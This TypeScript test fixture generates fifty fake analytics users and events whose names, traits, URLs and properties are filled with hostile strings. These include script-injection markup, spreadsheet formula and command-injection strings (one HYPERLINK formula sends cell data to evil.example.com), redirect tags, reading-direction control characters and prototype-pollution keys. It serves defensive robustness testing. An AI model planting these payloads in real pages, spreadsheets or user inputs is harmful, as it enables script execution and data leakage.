// Fifty people whose traits, event names, ids, properties, addresses and browsers try to break a page or a spreadsheet: markup,
// handlers, addresses that run, formulas, letters that turn the reading direction, names of built-in properties. The same
// every time.

export const HOSTILE_PEOPLE = 50;

const payloads = [
  `<img src=x onerror="alert('img')">`, `<script>alert('script')</script>`, `"><svg/onload=alert('svg')>`, `'-alert('quote')-'`, `javascript:alert('address')`,
  `<iframe srcdoc="<script>parent.alert(1)</script>">`, `{{constructor.constructor('alert(1)')()}}`, `</title><script>alert('title')</script>`, `<a href="//evil.example.com">x</a>`,
  `=HYPERLINK("https://evil.example.com/?"&A1,"ok")`, `+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `\t=1+1`, `\r=1+1`, `＝1+1`,
  `\u202egnp.tnemucod\u202c`, `\u2066\u202eabc`, `\u200f\u200f\u0627\u0644\u0633\u0644\u0627\u0645`, `Z${"\u0335\u0322\u0348\u0353".repeat(200)}algo`, `${"👩‍👩‍👧‍👦".repeat(80)}`,
  `${"W".repeat(10_000)}`, `a\u0000b`, `\ud800 lone`, `<!--`, `]]>`, `<style>*{display:none}</style>`, `<base href="https://evil.example.com/">`, `<meta http-equiv="refresh" content="0;url=https://evil.example.com">`,
  `constructor`, `__proto__`, `toString`, `https://evil.example.com/track.gif`, `data:text/html,<script>alert(1)</script>`, `\u2028alert(1)\u2029`,
] as const;

function payload(index: number): string {
  return payloads[index % payloads.length] ?? "";
}

/** Two calls for each; `hostile-0` is the user id of the first. */
export function hostileEvents(nowMs: number): Record<string, unknown>[] {
  return Array.from({ length: HOSTILE_PEOPLE }, (_, index) => {
    const evil = payload(index);
    const timestamp = new Date(nowMs - index * 30_000).toISOString();
    const context = {
      userAgent: evil.slice(0, 200), locale: evil.slice(0, 30), campaign: { name: evil.slice(0, 200), source: evil.slice(0, 200) },
      page: { url: `https://shop.example.com/?q=${encodeURIComponent(evil.slice(0, 100).toWellFormed())}`, title: evil, referrer: evil.slice(0, 500) },
      groupId: evil.slice(0, 100), consent: { categoryPreferences: { [evil.slice(0, 100)]: true } },
    };
    const rest = { userId: `hostile-${index}`, anonymousId: `${evil.slice(0, 100)}-${index}`, timestamp, context };
    return [
      { ...rest, type: "identify", messageId: `hostile-identify-${index}`, traits: { name: evil, email: `hostile${index}@example.com`, [evil.slice(0, 300)]: payload(index + 1), nested: { list: [evil, { [evil.slice(0, 100)]: evil }] } } },
      { ...rest, type: "track", messageId: `hostile-track-${index}`, event: evil.slice(0, 400), properties: { [evil.slice(0, 300)]: payload(index + 2), order_id: evil.slice(0, 200), products: [{ name: evil }] } },
    ];
  }).flat();
}
